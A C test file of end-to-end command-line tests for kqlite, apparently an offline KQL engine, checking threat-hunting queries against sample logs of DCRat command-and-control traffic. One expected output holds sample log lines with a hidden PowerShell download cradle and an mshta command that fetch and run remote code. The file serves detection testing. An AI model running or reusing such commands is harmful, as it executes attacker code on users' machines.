/*
** 2026-11-28
** kqlite — offline KQL engine.
**
** End-to-end tests of the kqlite command line. Each test starts the binary
** named by the environment variable KQLITE (default build/kqlite) in a child
** process, with standard output and standard error captured in temporary
** files, and checks the three things a user sees: stdout, stderr and the exit
** code. Expected outputs were worked out by hand from the query and the data
** (tables/samples/ and its README for the bundled hunts, small files written
** by the tests themselves otherwise), never copied from kqlite's output.
** A hung binary is killed by alarm(60) in the child. (Criterion's own
** .timeout is not used: with -j2 it leaks 48 bytes inside libcriterion,
** which fails make sanitize's leak check.)
*/
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include "clirun.h"

typedef KqlCliRun CliRun;
#define cliRun(...) kqlcliRun(0, 0, (const char *const[]){__VA_ARGS__, NULL})

/* A scratch directory, removed by the test's own process at exit. */
static char *scratchDir(void){
  char zTmpl[] = "/tmp/kqlite-cli.XXXXXX";
  char *z = mkdtemp(zTmpl);
  cr_assert_not_null(z);
  return strdup(z);
}

static char *writeFile(const char *zDir, const char *zName, const char *zText){
  size_t n = strlen(zDir) + strlen(zName) + 2;
  char *zPath = malloc(n);
  FILE *f;
  snprintf(zPath, n, "%s/%s", zDir, zName);
  f = fopen(zPath, "w");
  cr_assert_not_null(f, "cannot write %s", zPath);
  fputs(zText, f);
  fclose(f);
  return zPath;
}

static void removeDir(const char *zDir){
  char zCmd[600];
  snprintf(zCmd, sizeof(zCmd), "rm -rf '%s'", zDir);
  if( strncmp(zDir, "/tmp/kqlite-cli.", 16)==0 && system(zCmd)!=0 ){
    cr_log_warn("could not remove %s", zDir);
  }
}

/****************************************************************** usage */

Test(cli, no_arguments_is_a_usage_error){
  CliRun r = kqlcliRun(0, 0, (const char *const[]){NULL});
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "usage: kqlite run");
  kqlcliExpectOut(&r, "");
  kqlcliFree(&r);
}

Test(cli, help_goes_to_stdout){
  CliRun r = cliRun("--help");
  kqlcliExpectRc(&r, 0);
  cr_expect_not_null(strstr(r.zOut, "usage: kqlite run"));
  cr_expect_str_eq(r.zErr, "");
  kqlcliFree(&r);
}

Test(cli, run_without_query){
  CliRun r = cliRun("run");
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "no query");
  kqlcliFree(&r);
}

Test(cli, unknown_option){
  CliRun r = cliRun("run", "--bogus", "-e", "print 1");
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "unknown option '--bogus'");
  kqlcliFree(&r);
}

Test(cli, unknown_command){
  CliRun r = cliRun("frobnicate");
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "unknown command 'frobnicate'");
  kqlcliFree(&r);
}

Test(cli, unknown_format){
  CliRun r = cliRun("run", "--format", "xml", "-e", "print 1");
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "unknown format 'xml'");
  kqlcliFree(&r);
}

Test(cli, option_missing_its_value){
  CliRun r = cliRun("run", "-e");
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "-e needs a value");
  kqlcliFree(&r);
}

Test(cli, bad_now){
  CliRun r = cliRun("run", "--now", "yesterday-ish", "-e", "print 1");
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "--now");
  kqlcliExpectErrHas(&r, "yesterday-ish");
  kqlcliFree(&r);
}

Test(cli, missing_query_file){
  CliRun r = cliRun("run", "queries/no-such-hunt.kql");
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "queries/no-such-hunt.kql");
  kqlcliExpectOut(&r, "");
  kqlcliFree(&r);
}

Test(cli, table_option_needs_name_and_path){
  CliRun r = cliRun("run", "--table", "Firewall", "-e", "Firewall | count");
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "NAME=PATH");
  kqlcliFree(&r);
}

/****************************************************************** -e and output */

Test(cli, inline_query_csv_when_not_a_terminal){
  CliRun r = cliRun("run", "-e", "print x = 1 + 1, s = strcat('a', 'b')");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r, "x,s\n2,ab\n");
  cr_expect_str_eq(r.zErr, "");
  kqlcliFree(&r);
}

Test(cli, inline_query_json){
  CliRun r = cliRun("run", "--format", "json", "-e", "print n = 2 * 21, b = 1 < 2, s = 'x'");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r,
    "{\"columns\":[{\"name\":\"n\",\"type\":\"long\"},{\"name\":\"b\",\"type\":\"bool\"},"
    "{\"name\":\"s\",\"type\":\"string\"}],\"rows\":[\n[42,true,\"x\"]\n]}\n");
  kqlcliFree(&r);
}

Test(cli, inline_range_table_format){
  CliRun r = cliRun("run", "--format", "table", "-e", "range i from 8 to 11 step 1");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r, " i\n--\n 8\n 9\n10\n11\n");
  kqlcliFree(&r);
}

Test(cli, now_pins_now_and_ago){
  CliRun r = cliRun("run", "--now", "2026-06-05T00:00:00Z", "-e",
                    "print t = now(), a = ago(1d), h = ago(90m)");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r, "t,a,h\n2026-06-05T00:00:00Z,2026-06-04T00:00:00Z,2026-06-04T22:30:00Z\n");
  kqlcliFree(&r);
}

Test(cli, ago_filters_with_now){
  /* rows 3 and 4 days before --now are outside a 2-day window; the two
  ** within it are kept */
  CliRun r = cliRun("run", "--now", "2026-06-10T12:00:00Z", "-e",
    "datatable(T:datetime, n:long)[datetime(2026-06-06T12:00:00Z), 1, datetime(2026-06-07T11:00:00Z), 2,"
    " datetime(2026-06-09T00:00:00Z), 3, datetime(2026-06-10T11:59:59Z), 4]"
    " | where T > ago(2d) | project n");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r, "n\n3\n4\n");
  kqlcliFree(&r);
}

/****************************************************************** errors */

Test(cli, syntax_error_is_located){
  char *zDir = scratchDir();
  char *zPath = writeFile(zDir, "bad.kql", "print a = 1\n| where a > > 2\n");
  CliRun r = cliRun("run", zPath);
  char zWantHead[300];
  kqlcliExpectRc(&r, 1);
  kqlcliExpectOut(&r, "");
  /* the second '>' is on line 2, column 13 */
  snprintf(zWantHead, sizeof(zWantHead), "%s:2:13: error: ", zPath);
  cr_expect_eq(strncmp(r.zErr, zWantHead, strlen(zWantHead)), 0,
               "stderr should start with \"%s\":\n%s", zWantHead, r.zErr);
  kqlcliExpectErrHas(&r, "syntax error");
  kqlcliExpectErrHas(&r, "\n  | where a > > 2\n              ^\n");
  kqlcliFree(&r);
  removeDir(zDir);
  free(zPath);
  free(zDir);
}

Test(cli, syntax_error_inline_query){
  CliRun r = cliRun("run", "-e", "print (1");
  kqlcliExpectRc(&r, 1);
  cr_expect_eq(strncmp(r.zErr, "<query>:1:", 10), 0, "stderr: %s", r.zErr);
  kqlcliFree(&r);
}

Test(cli, unknown_column_is_a_query_error){
  CliRun r = cliRun("run", "-e", "print a = 1 | project b");
  kqlcliExpectRc(&r, 1);
  cr_expect_eq(strncmp(r.zErr, "<query>:1:", 10), 0, "stderr: %s", r.zErr);
  cr_expect(strstr(r.zErr, "'b'") || strstr(r.zErr, "\"b\""),
            "the message quotes the column name: %s", r.zErr);
  kqlcliFree(&r);
}

Test(cli, unknown_table_names_table_and_directory){
  char *zDir = scratchDir();
  CliRun r = cliRun("run", "--data", zDir, "-e", "NoSuchTable | take 1");
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "NoSuchTable");
  kqlcliExpectErrHas(&r, zDir);
  kqlcliExpectOut(&r, "");
  kqlcliFree(&r);
  removeDir(zDir);
  free(zDir);
}

Test(cli, catalogue_table_without_file){
  /* SigninLogs is a known schema, but the directory has no file for it */
  char *zDir = scratchDir();
  CliRun r = cliRun("run", "--data", zDir, "-e", "SigninLogs | take 1");
  kqlcliExpectRc(&r, 2);
  kqlcliExpectErrHas(&r, "SigninLogs");
  kqlcliExpectErrHas(&r, zDir);
  kqlcliFree(&r);
  removeDir(zDir);
  free(zDir);
}

/****************************************************************** --table, --data */

Test(cli, table_option_loads_a_csv){
  char *zDir = scratchDir();
  char *zCsv = writeFile(zDir, "fw.csv",
    "Time,Src,Dst,Port\n"
    "2026-06-03T08:00:00Z,10.0.0.5,156.247.40.190,12159\n"
    "2026-06-03T08:01:00Z,10.0.0.6,13.107.21.200,443\n"
    "2026-06-03T08:02:00Z,10.0.0.5,82.23.246.160,12159\n");
  char zSpec[300];
  snprintf(zSpec, sizeof(zSpec), "Firewall=%s", zCsv);
  CliRun r = cliRun("run", "--table", zSpec, "-e",
                    "Firewall | where Port == 12159 | summarize n = count() by Src");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r, "Src,n\n10.0.0.5,2\n");
  kqlcliFree(&r);
  removeDir(zDir);
  free(zCsv);
  free(zDir);
}

Test(cli, malformed_data_is_located){
  char *zDir = scratchDir();
  char *zCsv = writeFile(zDir, "Broken.csv", "a,b\n1,2\n3,\"unterminated\n");
  CliRun r = cliRun("run", "--data", zDir, "-e", "Broken | count");
  char zWant[300];
  kqlcliExpectRc(&r, 2);
  snprintf(zWant, sizeof(zWant), "%s:3:", zCsv);
  kqlcliExpectErrHas(&r, zWant);
  kqlcliExpectOut(&r, "");
  kqlcliFree(&r);
  removeDir(zDir);
  free(zCsv);
  free(zDir);
}

Test(cli, several_files_are_labelled){
  char *zDir = scratchDir();
  char *zA = writeFile(zDir, "a.kql", "print x = 1\n");
  char *zB = writeFile(zDir, "b.kql", "print y = 'two'\n");
  char zWant[600];
  CliRun r = cliRun("run", zA, zB);
  kqlcliExpectRc(&r, 0);
  snprintf(zWant, sizeof(zWant), "==> %s\nx\n1\n\n==> %s\ny\ntwo\n", zA, zB);
  kqlcliExpectOut(&r, zWant);
  kqlcliFree(&r);
  removeDir(zDir);
  free(zA);
  free(zB);
  free(zDir);
}

/****************************************************************** bundled hunts on the samples */

/*
** Expected outputs of the bundled hunts over tables/samples/. Each was
** computed from the sample files by an independent script applying the
** query's logic (filter, projection, ordering, KQL's datetime printing) and
** matches the counts in tables/samples/README.md: 15 CommonSecurityLog hits
** (6 beacon + 4 SRV-DB01 + 3 return + 2 probe), 18 DeviceNetworkEvents hits.
** Output is CSV because standard output is not a terminal.
*/
static const char zCslHits[] =
    "TimeGenerated,SourceIP,DestinationIP,DestinationPort,DeviceAction,Activity\n"
    "2026-06-04T02:17:05Z,82.23.246.160,10.20.5.11,1433,deny,Connection denied by policy\n"
    "2026-06-04T02:10:05Z,82.23.246.160,10.20.5.11,1433,deny,Connection denied by policy\n"
    "2026-06-03T09:54:31Z,10.20.5.11,82.23.246.160,12159,drop,Connection denied by policy\n"
    "2026-06-03T09:51:31Z,10.20.5.11,82.23.246.160,12159,allow,TRAFFIC end\n"
    "2026-06-03T09:48:31Z,10.20.5.11,82.23.246.160,12159,allow,TRAFFIC end\n"
    "2026-06-03T09:45:31Z,10.20.5.11,82.23.246.160,12159,allow,TRAFFIC end\n"
    "2026-06-03T08:40:10.5850000Z,10.20.1.42,156.247.40.190,12159,deny,Connection denied by policy\n"
    "2026-06-03T08:35:08.4680000Z,10.20.1.42,156.247.40.190,12159,deny,Connection denied by policy\n"
    "2026-06-03T08:30:06.3510000Z,10.20.1.42,156.247.40.190,12159,allow,TRAFFIC end\n"
    "2026-06-03T08:26:40Z,156.247.40.190,10.20.1.42,50112,allow,TRAFFIC end\n"
    "2026-06-03T08:25:04.2340000Z,10.20.1.42,156.247.40.190,12159,allow,TRAFFIC end\n"
    "2026-06-03T08:21:40Z,156.247.40.190,10.20.1.42,50111,allow,TRAFFIC end\n"
    "2026-06-03T08:20:02.1170000Z,10.20.1.42,156.247.40.190,12159,allow,TRAFFIC end\n"
    "2026-06-03T08:16:40Z,156.247.40.190,10.20.1.42,50110,allow,TRAFFIC end\n"
    "2026-06-03T08:15:00Z,10.20.1.42,156.247.40.190,12159,allow,TRAFFIC end\n";

Test(cli, dcrat_commonsecuritylog_hunt){
  CliRun r = cliRun("run", "queries/dcrat-commonsecuritylog.kql", "--data", "tables/samples/");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r, zCslHits);
  cr_expect_str_eq(r.zErr, "");
  kqlcliFree(&r);
}

Test(cli, dcrat_hunt_via_table_option){
  /* the same hunt with the file named explicitly instead of --data */
  CliRun r = cliRun("run", "--table", "CommonSecurityLog=tables/samples/CommonSecurityLog.csv",
                    "queries/dcrat-commonsecuritylog.kql");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r, zCslHits);
  kqlcliFree(&r);
}

Test(cli, dcrat_devicenetworkevents_hunt_json){
  CliRun r = cliRun("run", "--format", "json", "--data", "tables/samples/",
                    "queries/dcrat-devicenetworkevents.kql");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r,
    "{\"columns\":[{\"name\":\"Timestamp\",\"type\":\"datetime\"},{\"name\":\"DeviceName\",\"type\":\"string\"},{\"name\":\"RemoteIP\",\"type\":\"string\"},{\"name\":\"RemotePort\",\"type\":\"int\"},{\"name\":\"InitiatingProcessFileName\",\"type\":\"string\"},{\"name\":\"ActionType\",\"type\":\"string\"}],\"rows\":[\n"
    "[\"2026-06-03T09:54:31Z\",\"srv-db01.contoso.local\",\"82.23.246.160\",12159,\"svchost32.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T09:51:31Z\",\"srv-db01.contoso.local\",\"82.23.246.160\",12159,\"svchost32.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T09:48:31Z\",\"srv-db01.contoso.local\",\"82.23.246.160\",12159,\"svchost32.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T09:45:31Z\",\"srv-db01.contoso.local\",\"82.23.246.160\",12159,\"svchost32.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T09:20:04Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionFailed\"],\n"
    "[\"2026-06-03T09:10:04.1246788Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T09:05:04.1245677Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T09:00:04.1244566Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T08:55:04.1243455Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T08:50:04.1242344Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T08:45:04.1241233Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T08:40:04.1240122Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T08:35:04.1239011Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T08:30:04.1237900Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T08:25:04.1236789Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T08:20:04.1235678Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T08:15:04.1234567Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
    "[\"2026-06-03T07:58:12.5000000Z\",\"ws-0117.contoso.local\",\"82.23.246.160\",80,\"powershell.exe\",\"ConnectionSuccess\"]\n"
    "]}\n");
  kqlcliFree(&r);
}

Test(cli, port_hunt_with_now){
  CliRun r = cliRun("run", "--now", "2026-06-05T00:00:00Z", "--data", "tables/samples/",
                    "queries/dcrat-port-12159.kql");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r,
    "DeviceName,RemoteIP,Connections,FirstSeen,LastSeen,Processes\n"
    "ws-0142.contoso.local,156.247.40.190,13,2026-06-03T08:15:04.1234567Z,2026-06-03T09:20:04Z,\"[\"\"AudioDriver.exe\"\"]\"\n"
    "srv-db01.contoso.local,82.23.246.160,4,2026-06-03T09:45:31Z,2026-06-03T09:54:31Z,\"[\"\"svchost32.exe\"\"]\"\n"
    "ws-0203.contoso.local,45.133.1.7,2,2026-06-04T14:00:00Z,2026-06-04T14:05:00Z,\"[\"\"update.exe\"\"]\"\n");
  kqlcliFree(&r);
}

Test(cli, port_hunt_window_moves_with_now){
  /* a week after the last sample event nothing is inside the 7-day window */
  CliRun r = cliRun("run", "--now", "2026-06-20T00:00:00Z", "--data", "tables/samples/",
                    "queries/dcrat-port-12159.kql");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r, "DeviceName,RemoteIP,Connections,FirstSeen,LastSeen,Processes\n");
  kqlcliFree(&r);
}

Test(cli, beaconing_hunt){
  CliRun r = cliRun("run", "--data", "tables/samples/", "queries/beaconing-top-talkers.kql");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r,
    "RemoteIP,RemotePort,Connections,Devices\n"
    "13.69.109.131,443,36,7\n"
    "104.16.132.229,443,32,7\n"
    "185.199.108.153,443,29,7\n"
    "151.101.1.69,443,28,7\n"
    "40.126.32.134,443,22,7\n"
    "52.96.40.12,443,22,7\n"
    "13.107.21.200,443,21,7\n"
    "142.250.74.110,443,21,6\n"
    "20.190.151.7,443,20,7\n"
    "156.247.40.190,12159,12,1\n");
  kqlcliFree(&r);
}

Test(cli, suspicious_process_hunt){
  CliRun r = cliRun("run", "--data", "tables/samples/", "queries/suspicious-process-network.kql");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r,
    "Timestamp,DeviceName,InitiatingProcessFileName,RemoteIP,RemotePort,Cradle,InitiatingProcessCommandLine\n"
    "2026-06-03T07:58:12.5000000Z,ws-0117.contoso.local,powershell.exe,82.23.246.160,80,true,\"powershell.exe -nop -w hidden -c \"\"IEX (New-Object Net.WebClient).DownloadString('http://82.23.246.160/stage.ps1')\"\"\"\n"
    "2026-06-02T16:30:00Z,ws-0155.contoso.local,mshta.exe,23.45.67.89,80,true,mshta.exe http://23.45.67.89/a.hta\n");
  kqlcliFree(&r);
}

Test(cli, firewall_summary_hunt){
  /* make_set() order is unspecified, so the Ports column is checked as a set */
  static const struct { const char *zHead; const char *zPorts; const char *zTail; } aRow[] = {
    {"10.20.1.42,5,3,", "443 12159", ",2026-06-04T06:12:46.1920000Z"},
    {"10.20.2.3,5,4,", "12159 443 53", ",2026-06-04T17:02:52.9090000Z"},
    {"10.20.5.11,5,4,", "80 123 12159 53", ",2026-06-05T00:06:32.7720000Z"},
    {"10.20.1.1,4,4,", "443 123", ",2026-06-04T11:34:54Z"},
    {"10.20.1.28,3,3,", "53 443 80", ",2026-06-03T17:32:21Z"},
    {"10.20.1.17,2,2,", "53 443", ",2026-06-04T02:44:52Z"},
    {"10.20.5.31,2,2,", "80 443", ",2026-06-05T13:30:26Z"},
    {"82.23.246.160,2,1,", "1433", ",2026-06-04T02:17:05Z"},
  };
  CliRun r = cliRun("run", "--data", "tables/samples/", "queries/firewall-blocked-summary.kql");
  char *zSave = 0, *zLine;
  int i = -1;
  kqlcliExpectRc(&r, 0);
  for(zLine = strtok_r(r.zOut, "\n", &zSave); zLine; zLine = strtok_r(0, "\n", &zSave), i++){
    if( i<0 ){
      cr_expect_str_eq(zLine, "SourceIP,Denied,Destinations,Ports,LastSeen");
      continue;
    }
    if( i>=8 ){
      cr_expect_fail("extra line: %s", zLine);
      break;
    }
    size_t nHead = strlen(aRow[i].zHead), nTail = strlen(aRow[i].zTail), n = strlen(zLine);
    if( n <= nHead + nTail ){
      cr_expect_fail("line %d too short: %s", i+1, zLine);
      continue;
    }
    cr_expect_eq(strncmp(zLine, aRow[i].zHead, nHead), 0, "line %d: %s", i+1, zLine);
    cr_expect_str_eq(zLine + n - nTail, aRow[i].zTail, "line %d: %s", i+1, zLine);
    /* the middle is a JSON array of ports, CSV-quoted when it has commas */
    char zPorts[100];
    size_t k = 0;
    for(const char *z = zLine + nHead; z < zLine + n - nTail && k+1 < sizeof(zPorts); z++){
      if( *z>='0' && *z<='9' ) zPorts[k++] = *z;
      else if( *z==',' ) zPorts[k++] = ' ';
    }
    zPorts[k] = 0;
    /* same members, any order */
    char zA[110], zB[110];
    snprintf(zA, sizeof(zA), " %s ", zPorts);
    snprintf(zB, sizeof(zB), " %s ", aRow[i].zPorts);
    int nA = 0, nB = 0;
    for(char *z = zA; *z; z++) nA += *z==' ';
    for(char *z = zB; *z; z++) nB += *z==' ';
    cr_expect_eq(nA, nB, "line %d ports [%s], expected the set {%s}", i+1, zPorts, aRow[i].zPorts);
    char *zSave2 = 0;
    for(char *zTok = strtok_r(zB, " ", &zSave2); zTok; zTok = strtok_r(0, " ", &zSave2)){
      char zNeedle[20];
      snprintf(zNeedle, sizeof(zNeedle), " %s ", zTok);
      cr_expect_not_null(strstr(zA, zNeedle), "line %d ports [%s] lack %s", i+1, zPorts, zTok);
    }
  }
  cr_expect_eq(i, 8, "expected 8 rows, got %d", i);
  kqlcliFree(&r);
}

Test(cli, datatable_hunt_needs_no_data){
  /* By hand: WS-0142 has 2 connections, both to a C2 on 12159; SRV-DB01 one,
  ** to a C2 on 12159; WS-0117 two on 443 (below 1024). Sorted by ToC2 desc. */
  CliRun r = cliRun("run", "queries/triage-exported-connections.kql");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r,
    "Host,Connections,ToC2,HighPorts,LastSeen\n"
    "WS-0142,2,2,2,2026-06-03T08:20:00Z\n"
    "SRV-DB01,1,1,1,2026-06-03T09:45:31Z\n"
    "WS-0117,2,0,0,2026-06-03T10:00:00Z\n");
  kqlcliFree(&r);
}

Test(cli, every_bundled_hunt_runs){
  /* all of queries/ in one invocation: exit 0, nothing on stderr, one
  ** labelled result per file */
  CliRun r = cliRun("run", "--now", "2026-06-05T00:00:00Z", "--data", "tables/samples/",
                    "queries/beaconing-top-talkers.kql", "queries/dcrat-commonsecuritylog.kql",
                    "queries/dcrat-devicenetworkevents.kql", "queries/dcrat-port-12159.kql",
                    "queries/firewall-blocked-summary.kql", "queries/suspicious-process-network.kql",
                    "queries/triage-exported-connections.kql");
  int nLabel = 0;
  kqlcliExpectRc(&r, 0);
  cr_expect_str_eq(r.zErr, "");
  for(const char *z = r.zOut; (z = strstr(z, "==> queries/"))!=0; z++) nLabel++;
  cr_expect_eq(nLabel, 7);
  kqlcliFree(&r);
}

/****************************************************************** the operators the hunts rely on */

Test(cli, string_operators){
  /* has: whole terms, any case; contains/startswith/endswith: any case;
  ** !in: exact. "microsoftonline" is one term, so it does not "have" microsoft. */
  CliRun r = cliRun("run", "-e",
    "datatable(u:string)['login.microsoftonline.com', 'www.Microsoft.com', 'evil.example.net',"
    " 'cdn.microsoft.com'] | extend h = u has 'microsoft', c = u contains 'MICRO',"
    " s = u startswith 'www', e = u endswith '.COM', n = u !in ('evil.example.net'),"
    " m = u matches regex @'^[a-z]+\\.microsoft'");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r,
    "u,h,c,s,e,n,m\n"
    "login.microsoftonline.com,false,true,false,true,true,true\n"
    "www.Microsoft.com,true,true,true,true,true,false\n"
    "evil.example.net,false,false,false,false,false,false\n"
    "cdn.microsoft.com,true,true,false,true,true,true\n");
  kqlcliFree(&r);
}

Test(cli, summarize_aggregates){
  CliRun r = cliRun("run", "-e",
    "datatable(k:string, v:long)['a', 1, 'b', 5, 'a', 3]"
    " | summarize n = count(), s = sum(v), a = avg(v), lo = min(v), hi = max(v), d = dcount(v),"
    " big = countif(v > 2) by k | order by k asc");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r, "k,n,s,a,lo,hi,d,big\na,2,4,2,1,3,2,1\nb,1,5,5,5,5,1,1\n");
  kqlcliFree(&r);
}

Test(cli, arg_max_and_arg_min){
  /* the second aggregate's columns get the suffix 1 */
  CliRun r = cliRun("run", "-e",
    "datatable(k:string, v:long, t:datetime)['a', 1, datetime(2026-01-01), 'a', 3, datetime(2026-01-03),"
    " 'b', 5, datetime(2026-01-02)] | summarize arg_max(t, v), arg_min(t, v) by k | order by k asc");
  kqlcliExpectRc(&r, 0);
  kqlcliExpectOut(&r,
    "k,t,v,t1,v1\n"
    "a,2026-01-03T00:00:00Z,3,2026-01-01T00:00:00Z,1\n"
    "b,2026-01-02T00:00:00Z,5,2026-01-02T00:00:00Z,5\n");
  kqlcliFree(&r);
}

Test(cli, top_count_distinct_limit){
  CliRun r1 = cliRun("run", "-e", "range i from 1 to 9 step 2 | top 2 by i");
  CliRun r2 = cliRun("run", "-e", "range i from 1 to 9 step 2 | where i > 3 | count");
  CliRun r3 = cliRun("run", "-e", "datatable(s:string)['b', 'a', 'b'] | distinct s | sort by s asc");
  CliRun r4 = cliRun("run", "-e", "range i from 1 to 100 step 1 | limit 3 | summarize n = count()");
  kqlcliExpectRc(&r1, 0);
  kqlcliExpectOut(&r1, "i\n9\n7\n");
  kqlcliExpectRc(&r2, 0);
  kqlcliExpectOut(&r2, "Count\n3\n");
  kqlcliExpectRc(&r3, 0);
  kqlcliExpectOut(&r3, "s\na\nb\n");
  kqlcliExpectRc(&r4, 0);
  kqlcliExpectOut(&r4, "n\n3\n");
  kqlcliFree(&r1);
  kqlcliFree(&r2);
  kqlcliFree(&r3);
  kqlcliFree(&r4);
}
